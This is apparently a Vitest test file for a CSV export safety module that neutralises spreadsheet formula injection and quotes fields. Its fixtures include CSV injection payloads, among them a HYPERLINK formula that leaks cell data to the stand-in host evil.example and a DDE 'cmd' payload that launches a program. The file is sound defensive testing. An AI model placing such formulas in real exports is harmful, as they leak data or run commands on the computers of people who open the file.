import { describe, expect, it } from 'vitest';
import { csvField, csvRow, neutraliseFormula, toCsv } from '../../../src-main/domain/leads/csv-safety';

describe('neutraliseFormula', () => {
  const neutralised: ReadonlyArray<[string, string]> = [
    ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`],
    ['=1+1', "'=1+1"],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+49 30 901820', "'+49 30 901820"], // a phone number too: harmless, and Excel would compute it
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['\0=1', "'\0=1"],
    ['   =1+1', "'   =1+1"], // leading spaces looked past
    ['=', "'="],
  ];
  it.each(neutralised)('%j → %j', (input, output) => {
    expect(neutraliseFormula(input)).toBe(output);
  });

  const untouched = ['', 'Acme GmbH', 'jane@acme.com', 'a=b', 'Total: =5', "'=already neutralised", '\n=1', ' ', '1-2', '＝1+1'];
  it.each(untouched)('leaves %j alone', (input) => {
    expect(neutraliseFormula(input)).toBe(input);
  });

  it('is idempotent', () => {
    for (const [input] of neutralised) expect(neutraliseFormula(neutraliseFormula(input))).toBe(neutraliseFormula(input));
  });
});

describe('csvField', () => {
  it.each<[string | number | null | undefined, string]>([
    [null, ''],
    [undefined, ''],
    ['', '""'],
    ['Acme', '"Acme"'],
    ['Smith, Jones & Co', '"Smith, Jones & Co"'],
    ['She said "hi"', '"She said ""hi"""'],
    ['line one\r\nline two', '"line one\r\nline two"'],
    ['=HYPERLINK("http://evil.example","x")', `"'=HYPERLINK(""http://evil.example"",""x"")"`],
    [-1500, '-1500'], // numbers are written as numbers, never prefixed
    [0, '0'],
    [123456, '123456'],
  ])('%j → %j', (value, field) => {
    expect(csvField(value)).toBe(field);
  });

  it('refuses a number that is not finite', () => {
    expect(() => csvField(Number.NaN)).toThrow(RangeError);
    expect(() => csvField(Number.POSITIVE_INFINITY)).toThrow(RangeError);
  });
});

describe('toCsv', () => {
  it('writes quoted, neutralised records ended by CRLF', () => {
    const csv = toCsv([
      ['row', 'email', 'reason'],
      [2, 'jane@acme', 'Email address is not valid'],
      [3, '=HYPERLINK("http://evil.example","x")', null],
    ]);
    expect(csv).toBe(
      '"row","email","reason"\r\n' +
        '2,"jane@acme","Email address is not valid"\r\n' +
        `3,"'=HYPERLINK(""http://evil.example"",""x"")",\r\n`,
    );
  });

  it('takes another delimiter and an optional UTF-8 byte order mark', () => {
    expect(csvRow(['a', 'b;c', 1], ';')).toBe('"a";"b;c";1');
    expect(toCsv([['Müller']], { bom: true, delimiter: '\t' })).toBe('\uFEFF"Müller"\r\n');
    expect(toCsv([])).toBe('');
  });

  it('never emits a field a spreadsheet would run, whatever the text', () => {
    const hostile = ['=1', '+1', '-1', '@x', '\t=1', '\r=1', ' =1', '"=1"'];
    for (const text of hostile) {
      const field = csvField(text);
      // Unquote as a spreadsheet would, then check the first significant character.
      const content = field.slice(1, -1).replace(/""/g, '"');
      expect(/^ *[=+\-@\t\r]/.test(content), text).toBe(false);
    }
  });
});
